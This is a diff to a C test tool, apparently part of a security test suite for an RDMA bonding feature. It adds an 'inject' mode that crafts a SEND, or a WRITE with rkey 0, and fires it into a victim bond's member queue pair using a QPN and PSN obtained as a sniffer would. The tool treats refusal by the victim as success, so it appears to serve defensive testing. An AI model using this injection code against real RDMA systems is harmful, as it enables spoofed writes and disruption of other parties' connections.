@@ -22,6 +22,11 @@
  *       the victim pair: a relaxed-ordered bond RC QP pair; the client
  *       writes COUNT x 1 MiB to the server and a SEND; the server checks
  *       every byte.  The server delays its RTR until DIR/go exists.
+ *   rbond_hostile inject -d DEV -a ADDR -q QPN -s PSN [-o send|write] [-L LEN]
+ *       one RC request (a SEND, or a WRITE with rkey 0, of LEN (64) bytes)
+ *       from a plain QP on DEV straight into the QP QPN, expected PSN PSN,
+ *       at the RoCE address ADDR (a member QP of a bond); exit 0 if it
+ *       completed with an error, 3 if it succeeded, 2 if it never did.
  *
  * VER is the control protocol version (3; 2 has the same layout, 1 speaks
  * the old format).
@@ -204,9 +209,11 @@ struct cconn {
 };
 
 static struct {
-	const char *addr, *local, *dev, *dir, *server;
+	const char *addr, *local, *dev, *dir, *server, *op;
 	int sport, n, port, count;
-} opt = { .n = 200, .port = 18660, .count = 24 };
+	unsigned long qpn, psn;
+	long len;
+} opt = { .n = 200, .port = 18660, .count = 24, .op = "send", .len = -1 };
 
 static int cm_wait(struct cconn *c, enum rdma_cm_event_type want,
 		   int timeout_ms, enum rdma_cm_event_type *got)
@@ -1011,13 +1018,107 @@ static int do_victim(void)
 	return ok ? 0 : 1;
 }
 
+/*
+ * inject: one RC request from a plain QP of ours straight into a member QP
+ * of the victim's bond (its QPN and expected PSN known, as to a sniffer on
+ * the rail): a SEND of -n bytes into the receive the member keeps for the
+ * peer's rejoin probe, or a WRITE of -n bytes to address 0 with rkey 0.
+ * Prints the completion; exit 0 when the request was refused (an error
+ * completion), 3 when it succeeded (the victim accepted data it has no
+ * buffer for), 2 when nothing completed, 1 on setup errors.
+ */
+static int do_inject(void)
+{
+	bool send = !strcmp(opt.op, "send");
+	size_t len = opt.len < 0 ? 64 : (size_t)opt.len;
+	struct ibv_qp_init_attr ia = {};
+	struct qp_info me, peer = {};
+	struct ibv_sge sge = {};
+	struct ibv_send_wr wr = {}, *bad;
+	struct ibv_qp_attr a = {};
+	struct ibv_wc wc;
+	struct ibv_cq *cq;
+	struct ibv_mr *mr;
+	struct ibv_qp *qp;
+	struct dev d;
+	void *buf;
+
+	if (dev_open(&d, opt.dev, 1))
+		return 1;
+	buf = calloc(1, len + 1);
+	cq = ibv_create_cq(d.ctx, 4, NULL, NULL, 0);
+	mr = buf && cq ? ibv_reg_mr(d.pd, buf, len + 1, IBV_ACCESS_LOCAL_WRITE) :
+			 NULL;
+	ia.send_cq = cq;
+	ia.recv_cq = cq;
+	ia.qp_type = IBV_QPT_RC;
+	ia.cap.max_send_wr = 1;
+	ia.cap.max_recv_wr = 1;
+	ia.cap.max_send_sge = 1;
+	ia.cap.max_recv_sge = 1;
+	qp = mr ? ibv_create_qp(d.pd, &ia) : NULL;
+	if (!qp) {
+		printf("# inject: setup on %s failed: %s\n", opt.dev, strerror(errno));
+		return 1;
+	}
+	qp_local_info(&d, qp, opt.psn, &me);
+	peer.qpn = opt.qpn;
+	peer.psn = opt.psn;
+	peer.mtu = me.mtu;
+	gid_v4(peer.gid.raw, opt.addr);
+	if (qp_to_init(&d, qp, 0) || qp_rtr(&d, qp, &me, &peer)) {
+		printf("# inject: connect failed: %s\n", strerror(errno));
+		return 1;
+	}
+	/* few, short retries: the victim answers at once or never */
+	a.qp_state = IBV_QPS_RTS;
+	a.timeout = 14;
+	a.retry_cnt = 1;
+	a.rnr_retry = 1;
+	a.sq_psn = opt.psn;
+	a.max_rd_atomic = 1;
+	if (ibv_modify_qp(qp, &a, IBV_QP_STATE | IBV_QP_TIMEOUT |
+			  IBV_QP_RETRY_CNT | IBV_QP_RNR_RETRY |
+			  IBV_QP_SQ_PSN | IBV_QP_MAX_QP_RD_ATOMIC)) {
+		printf("# inject: to RTS failed: %s\n", strerror(errno));
+		return 1;
+	}
+	memset(buf, 0xa5, len);
+	sge.addr = (uintptr_t)buf;
+	sge.length = len;
+	sge.lkey = mr->lkey;
+	wr.wr_id = 7;
+	wr.sg_list = &sge;
+	wr.num_sge = len ? 1 : 0;
+	wr.opcode = send ? IBV_WR_SEND : IBV_WR_RDMA_WRITE;
+	wr.send_flags = IBV_SEND_SIGNALED;
+	if (ibv_post_send(qp, &wr, &bad)) {
+		printf("# inject: post failed: %s\n", strerror(errno));
+		return 1;
+	}
+	if (poll_n(cq, &wc, 1, 10000) != 1) {
+		printf("inject: %s %zu B -> %s QPN 0x%lx PSN %lu: no completion\n",
+		       send ? "SEND" : "WRITE", len, opt.addr, opt.qpn, opt.psn);
+		return 2;
+	}
+	printf("inject: %s %zu B -> %s QPN 0x%lx PSN %lu: %s\n",
+	       send ? "SEND" : "WRITE", len, opt.addr, opt.qpn, opt.psn,
+	       wc_status_name(wc.status));
+	ibv_destroy_qp(qp);
+	ibv_dereg_mr(mr);
+	ibv_destroy_cq(cq);
+	free(buf);
+	dev_close(&d);
+	return wc.status == IBV_WC_SUCCESS ? 3 : 0;
+}
+
 int main(int argc, char **argv)
 {
 	const char *mode;
 	int c;
 
 	if (argc < 2) {
-		fprintf(stderr, "usage: %s probe|flood|forge|victim [options]\n",
+		fprintf(stderr, "usage: %s probe|flood|cap|forge|victim|inject [options]\n",
 			argv[0]);
 		return 1;
 	}
@@ -1025,7 +1126,7 @@ int main(int argc, char **argv)
 	optind = 2;
 	srand(getpid() ^ time(NULL));
 	srand48(getpid());
-	while ((c = getopt(argc, argv, "a:l:P:V:n:F:d:p:c:")) != -1) {
+	while ((c = getopt(argc, argv, "a:l:P:V:n:F:d:p:c:q:s:o:L:")) != -1) {
 		switch (c) {
 		case 'a': opt.addr = optarg; break;
 		case 'l': opt.local = optarg; break;
@@ -1036,6 +1137,10 @@ int main(int argc, char **argv)
 		case 'd': opt.dev = optarg; break;
 		case 'p': opt.port = atoi(optarg); break;
 		case 'c': opt.count = atoi(optarg); break;
+		case 'q': opt.qpn = strtoul(optarg, NULL, 0); break;
+		case 's': opt.psn = strtoul(optarg, NULL, 0); break;
+		case 'o': opt.op = optarg; break;
+		case 'L': opt.len = atol(optarg); break;
 		default: return 1;
 		}
 	}
@@ -1052,6 +1157,8 @@ int main(int argc, char **argv)
 		return do_forge();
 	if (!strcmp(mode, "victim") && opt.dev && opt.dir)
 		return do_victim();
+	if (!strcmp(mode, "inject") && opt.dev && opt.addr && opt.qpn)
+		return do_inject();
 	fprintf(stderr, "%s: missing options for %s\n", argv[0], mode);
 	return 1;
 }
